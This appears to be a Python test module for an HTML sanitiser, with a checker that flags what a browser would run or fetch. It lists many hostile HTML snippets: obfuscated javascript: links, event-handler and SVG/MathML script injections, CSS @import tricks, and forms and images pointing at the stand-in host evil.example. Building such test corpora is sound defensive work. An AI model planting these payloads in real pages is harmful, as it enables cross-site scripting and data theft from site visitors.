"""Hostile HTML for the sanitiser's tests, and a checker of what a browser would run or load."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from pathlib import Path

# Each piece tries one trick; every one must come out harmless.
HOSTILE_PIECES = [
    '<a href="&#106;avascript:alert(1)">entity</a>',
    '<a href="&#x6A;&#x61;vascript:alert(1)">hex entity</a>',
    '<a href="java&#x09;script:alert(1)">tab</a>',
    '<a href="java&#10;script:alert(1)">newline</a>',
    '<a href=" JaVaScRiPt:alert(1)">case</a>',
    '<a href="&#0000106avascript:alert(1)">padded entity</a>',
    '<a href="vbscript:msgbox(1)">vb</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>',
    '<a href="//evil.example/x">protocol relative</a>',
    '<a href="\\\\evil.example\\share">windows share</a>',
    '<a href="file:///etc/passwd">a file outside the site</a>',
    '<div OnClick="steal()" oNmOuSeOvEr=steal() onerror  =  "steal()">handlers</div>',
    "<img src=x onerror=alert(1)>",
    '<img src="x" ONLOAD="alert(1)" alt="upper">',
    "<body onload=alert(1)>body</body>",
    '<svg onload=alert(1)><a xlink:href="javascript:alert(1)"><text>svg</text></a></svg>',
    "<svg><script>alert(1)</script></svg>",
    # Drawings are let through (GoAT diagrams), their shapes alone.
    '<svg><use href="https://evil.example/x.svg#a"></use><image href="https://evil.example/i.png">'
    "</image></svg>",
    '<svg><foreignObject><iframe src="https://evil.example/f"></iframe></foreignObject></svg>',
    '<svg><animate attributeName="href" to="javascript:alert(1)"/><set attributeName="onload" '
    'to="alert(1)"/></svg>',
    '<svg><rect fill="url(https://evil.example/p.svg#g)" width="5"></rect><path d="M0,0" '
    'style="fill:url(https://evil.example/x)" stroke="url(#x)"></path></svg>',
    '<svg><g onclick="alert(1)" transform="url(x)"><text x="1" onmouseover="alert(1)">t</text>'
    '</g><style>@import "https://evil.example/s.css";</style></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph>"
    "</table></mtext></math>",
    '<math href="javascript:alert(1)">m</math>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    '<iframe src="https://evil.example/frame"></iframe>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/y.swf">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/s.css">',
    "<style>@import url(https://evil.example/a.css); p { color: red }</style>",
    '<style>@\\69mport "https://evil.example/b.css";</style>',
    "<style>p { background: url(https://evil.example/t.gif) }</style>",
    "<style>p { background: u\\72l(https://evil.example/c.gif) }</style>",
    "<style>p { background: url('//evil.example/q.gif') }</style>",
    '<style>p { background-image: image-set("https://evil.example/d.png" 1x) }</style>',
    "<style>p { behavior: url(x.htc); -moz-binding: url(https://evil.example/x.xml) }</style>",
    '<style>/* a */ @imp/**/ort "https://evil.example/e.css";</style>',
    '<p style="background:url(https://evil.example/e.gif); color: blue">inline</p>',
    '<p style="background:\\75rl(https://evil.example/f.gif)">escaped inline</p>',
    '<p style="width: expression(alert(1))">expression</p>',
    '<img src="local.png" srcset="https://evil.example/a.png 2x, local.png 1x">',
    '<picture><source srcset="https://evil.example/p.webp"><img src="p.png"></picture>',
    '<video poster="https://evil.example/p.jpg" src="https://evil.example/v.mp4"></video>',
    '<audio src="https://evil.example/a.mp3" autoplay></audio>',
    '<form action="https://evil.example/post" method="post"><input name="q">'
    '<button formaction="https://evil.example/go">Go</button></form>',
    '<input type="image" src="https://evil.example/i.png">',
    '<img src="https://evil.example/pixel.gif" alt="tracker">',
    '<img src="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">',
    '<table background="https://evil.example/bg.gif"><tr><td>t</td></tr></table>',
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</script>",
    '<a href="javascript&colon;alert(1)">colon entity</a>',
    '<noscript><img src="https://evil.example/n.gif"></noscript>',
    '<template><img src="https://evil.example/t.gif"></template>',
    '<a href="#top" target="_blank">fine anchor</a>',
]

_ALLOWED_LINK = re.compile(
    r"^(?:https?:|mailto:|#|(?![/\\])[^:/?#\\]*(?:[/?#]|$)|/(?![/\\]))", re.I
)
_RUNS_OR_LOADS_TAGS = {
    "script", "iframe", "frame", "object", "embed", "applet", "meta", "base", "link", "form",
    "math", "video", "audio", "noscript", "template", "button", "body", "html", "head",
    # inside a drawing: what loads, embeds or rewrites (the shapes themselves are harmless)
    "use", "image", "foreignobject", "animate", "set", "animatetransform", "animatemotion",
    "feimage",
}  # fmt: skip


def _plain(url: str) -> str:
    return re.sub(r"[\x00-\x20\x7f]", "", url)


class _Checker(HTMLParser):
    def __init__(self, site_uri: str | None) -> None:
        super().__init__(convert_charrefs=True)
        self.site_uri = site_uri
        self.problems: list[str] = []
        self._in_style = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in _RUNS_OR_LOADS_TAGS:
            self.problems.append(f"<{tag}> kept")
        self._in_style = tag == "style"
        for name, value in attrs:
            value = value or ""
            if name.startswith("on"):
                self.problems.append(f"handler {name} on <{tag}>")
            elif name in ("srcdoc", "formaction", "action", "poster", "background", "xlink:href"):
                self.problems.append(f"{name} on <{tag}>")
            elif name in ("href", "cite") and not _ALLOWED_LINK.match(_plain(value)):
                if not self._inside(_plain(value)):
                    self.problems.append(f"{name}={value!r} on <{tag}>")
            elif name in ("src", "srcset"):
                for part in value.split(","):
                    url = _plain(part.strip().split(" ")[0]) if part.strip() else ""
                    if re.match(r"^(?:[a-z][a-z0-9+.-]*:|//|\\\\)", url, re.I) and not (
                        url.lower().startswith("data:image/") or self._inside(url)
                    ):
                        self.problems.append(f"{name}={value!r} loads from outside")
            elif name == "style" and re.search(r"url\(|expression|@import|\\", value, re.I):
                self.problems.append(f"style={value!r}")
            elif "url(" in value.lower():  # a drawing's fill or stroke from elsewhere
                self.problems.append(f"{name}={value!r} on <{tag}>")

    def _inside(self, url: str) -> bool:
        return self.site_uri is not None and url.startswith(self.site_uri + "/")

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)
        self._in_style = False

    def handle_endtag(self, tag: str) -> None:
        self._in_style = False

    def handle_data(self, data: str) -> None:
        if self._in_style:
            low = data.lower()
            if "@import" in low or re.search(r"https?:|//", low):
                self.problems.append(f"style block {data!r}")
            if re.search(r"image-set|expression|-moz-binding|behavior", low):
                self.problems.append(f"style block {data!r}")


def what_runs_or_loads(html_text: str, site: Path | None = None) -> list[str]:
    """Everything in the HTML a browser would run, submit or fetch by itself (empty: safe).

    Links and images may name files inside `site` only.
    """
    checker = _Checker(site.resolve().as_uri() if site is not None else None)
    checker.feed(html_text)
    checker.close()
    return checker.problems


class _Text(HTMLParser):
    """The words a reader sees: no script, style or embedded content."""

    _HIDDEN = {"script", "style", "iframe", "object", "video", "audio", "svg", "template",
               "noscript", "title", "math"}  # fmt: skip

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.words: list[str] = []
        self._hidden = 0

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in self._HIDDEN:
            self._hidden += 1

    def handle_endtag(self, tag: str) -> None:
        if tag in self._HIDDEN and self._hidden:
            self._hidden -= 1

    def handle_data(self, data: str) -> None:
        if not self._hidden:
            self.words.extend(data.split())


def visible_words(html_text: str) -> list[str]:
    """The words of the HTML as a reader sees them; embed boxes left out."""
    html_text = re.sub(r'<div class="embed">.*?</div>', " ", html_text, flags=re.S)
    parser = _Text()
    parser.feed(html_text)
    parser.close()
    return parser.words
